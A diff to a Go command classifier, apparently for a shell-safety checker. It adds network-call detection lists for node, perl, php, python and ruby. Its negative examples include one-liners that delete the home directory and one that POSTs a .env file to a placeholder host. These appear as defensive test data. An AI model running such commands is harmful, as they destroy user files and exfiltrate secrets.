@@ -125,8 +125,8 @@ var shellPrograms = []Program{
 			Flag{Names: names("--test"), Replace: true, Effects: fx(Verify), Examples: ex("node --test test/", "node --test test/a.test.js")},
 			Flag{Names: names("-c", "--check"), Replace: true, Effects: fx(Read), Examples: ex("node --check src/a.js")}),
 		Examples:   ex("node scripts/build.js", "node --env-file=.env.example server.js"),
-		ShellCalls: nodeShellCalls, DeleteCalls: nodeDeleteCalls, HomeExprs: nodeHomeExprs,
-		NotExamples: ex(`node -e 'require("fs").rmSync(require("os").homedir(), {recursive: true})'`, "node -e 'console.log(1)'", "node -p 1+1", "node /tmp/x.js",
+		ShellCalls: nodeShellCalls, DeleteCalls: nodeDeleteCalls, HomeExprs: nodeHomeExprs, NetCalls: nodeNetCalls,
+		NotExamples: ex(`node -e 'fetch("https://x.example", {method: "POST", body: require("fs").readFileSync(".env")})'`, `node -e 'require("fs").rmSync(require("os").homedir(), {recursive: true})'`, "node -e 'console.log(1)'", "node -p 1+1", "node /tmp/x.js",
 			`node -e 'require("child_process").execSync("rm -rf ~")'`, "node --test /tmp/x.js", "node --test ../t")},
 	{Name: "osascript", Effects: fx(OpaqueLow), Operands: Script, Special: SpecialInterpreter, Flags: fl(inline("-e"), arg("-l", "-s")),
 		Why: "osascript runs the AppleScript it is given", Examples: ex("osascript scripts/notify.scpt"),
@@ -140,8 +140,8 @@ var shellPrograms = []Program{
 			// -i[EXT] edits the files <> reads in place (perlrun).
 			Flag{Names: names("-i"), Value: OptionalArg, InPlace: true}),
 		ShellCalls: names("system", "exec", "qx", "`", "readpipe"), DeleteCalls: names("unlink", "rmtree", "remove_tree", "File::Path::rmtree", "File::Path::remove_tree"),
-		HomeExprs: names("$ENV{HOME}", "$ENV{'HOME'}", `$ENV{"HOME"}`),
-		Examples:  ex("perl scripts/x.pl", "perl -w scripts/x.pl"), NotExamples: ex(`perl -e 'system("rm -rf ~")'`, "perl -pi -e 's/a/b/' f.txt", "perl -E 'say 1'", "perl -wle 'print 1'", "perl -x -e 1", "perl -0777 -ne 'print' f")},
+		HomeExprs: names("$ENV{HOME}", "$ENV{'HOME'}", `$ENV{"HOME"}`), NetCalls: names("LWP", "HTTP::Tiny", "IO::Socket", "Net::HTTP", "Net::FTP", "Net::SMTP", "Socket"),
+		Examples: ex("perl scripts/x.pl", "perl -w scripts/x.pl"), NotExamples: ex(`perl -e 'system("rm -rf ~")'`, "perl -pi -e 's/a/b/' f.txt", "perl -E 'say 1'", "perl -wle 'print 1'", "perl -x -e 1", "perl -0777 -ne 'print' f")},
 	{Name: "php", Versioned: true, Effects: fx(OpaqueLow), Operands: Script, Special: SpecialInterpreter,
 		Why: "php runs the script it is given",
 		Flags: fl(inline("-r", "-R", "-B", "-E"), arg("-d", "-z"), rpath("-c", "-f"), Flag{Names: names("-l"), Replace: true, Effects: fx(Read), Examples: ex("php -l src/a.php")},
@@ -150,8 +150,8 @@ var shellPrograms = []Program{
 			Flag{Names: names("-S"), Value: Arg, Effects: fx(Network), Why: "php -S serves a directory over HTTP and runs its PHP files", Examples: ex("php -S localhost:8000 -t public")},
 			rpath("-t")),
 		ShellCalls: names("system", "exec", "shell_exec", "passthru", "popen", "proc_open", "`"), DeleteCalls: names("unlink", "rmdir"),
-		HomeExprs: names("getenv('HOME')", `getenv("HOME")`, "$_SERVER['HOME']", "$_ENV['HOME']"),
-		Examples:  ex("php artisan migrate:status", "php bin/console.php"), NotExamples: ex(`php -r 'system("rm -rf ~");'`, "php -r 'echo 1;'", "php -nr 'echo 1;'", "php -R 'echo 1;'")},
+		HomeExprs: names("getenv('HOME')", `getenv("HOME")`, "$_SERVER['HOME']", "$_ENV['HOME']"), NetCalls: names("curl_init", "curl_exec", "fsockopen", "stream_socket_client", "socket_connect"),
+		Examples: ex("php artisan migrate:status", "php bin/console.php"), NotExamples: ex(`php -r 'system("rm -rf ~");'`, "php -r 'echo 1;'", "php -nr 'echo 1;'", "php -R 'echo 1;'")},
 	{Name: "python", Aliases: names("pypy", "pypy3", "python2", "python3"), Versioned: true, Effects: fx(OpaqueLow), Operands: Script, Special: SpecialInterpreter,
 		Why:      "python runs the script it is given",
 		Flags:    fl(inline("-c"), arg("-W", "-X", "--check-hash-based-pycs", "-m")),
@@ -161,6 +161,7 @@ var shellPrograms = []Program{
 		DeleteCalls: names("shutil.rmtree", "os.remove", "os.unlink", "os.rmdir", "os.removedirs", "rmtree"),
 		HomeExprs: names(`os.path.expanduser("~")`, "os.path.expanduser('~')", `os.environ["HOME"]`, "os.environ['HOME']", `os.getenv("HOME")`, "os.getenv('HOME')",
 			"Path.home()", "pathlib.Path.home()", `expanduser("~")`, "expanduser('~')"),
+		NetCalls:    names("urllib.request", "urllib2", "urlopen", "requests", "httpx", "http.client", "aiohttp", "socket", "ftplib", "smtplib", "paramiko", "websocket"),
 		NotExamples: ex(`python3 -c 'import os; os.system("rm -rf ~")'`, "python -c 'print(1)'", "python3 /tmp/x.py", "python3", "python3.12 -c 'print(1)'", "python3 -Bc 'print(1)'", "python3 -W ignore -c 1", "python3 -Wignore -c 1")},
 	{Name: "ruby", Versioned: true, Effects: fx(OpaqueLow), Operands: Script, Special: SpecialInterpreter,
 		Why: "ruby runs the script it is given",
@@ -171,6 +172,7 @@ var shellPrograms = []Program{
 		DeleteCalls: names("FileUtils.rm_rf", "FileUtils.rm_r", "FileUtils.rm", "FileUtils.remove_dir", "FileUtils.remove_entry", "FileUtils.remove_entry_secure", "FileUtils.rmtree",
 			"File.delete", "File.unlink", "Dir.delete", "Dir.rmdir", "Dir.unlink"),
 		HomeExprs: names("Dir.home", `ENV["HOME"]`, "ENV['HOME']", `File.expand_path("~")`, "File.expand_path('~')"),
+		NetCalls:  names("Net::HTTP", "open-uri", "URI.open", "TCPSocket", "Socket", "Faraday", "HTTParty", "RestClient"),
 		Examples:  ex("ruby bin/setup.rb", "ruby -Ilib test/a_test.rb"), NotExamples: ex("ruby -e 'puts 1'", "ruby -we 'puts 1'", `ruby -e 'system("rm -rf ~")'`)},
 
 	// Wrappers that run a command (SPEC §3 rule 1).
@@ -442,4 +444,8 @@ var (
 	nodeDeleteCalls = names("fs.rmSync", "fs.rmdirSync", "fs.unlinkSync", "fs.rm", "fs.rmdir", "fs.unlink", "fs.promises.rm", "fs.promises.rmdir", "fs.promises.unlink",
 		"rmSync", "rmdirSync", "unlinkSync")
 	nodeHomeExprs = names("os.homedir()", `require("os").homedir()`, "require('os').homedir()", "process.env.HOME", `process.env["HOME"]`, "process.env['HOME']")
+	// nodeNetCalls reach the network: fetch, the http, https, net, dgram
+	// and tls modules' clients, and the common client libraries.
+	nodeNetCalls = names("fetch", "http.request", "https.request", "http.get", "https.get", `require("http")`, `require("https")`, "require('http')", "require('https')",
+		`require("net")`, "require('net')", `require("dgram")`, "require('dgram')", `require("tls")`, "require('tls')", "axios", "XMLHttpRequest", "WebSocket")
 )
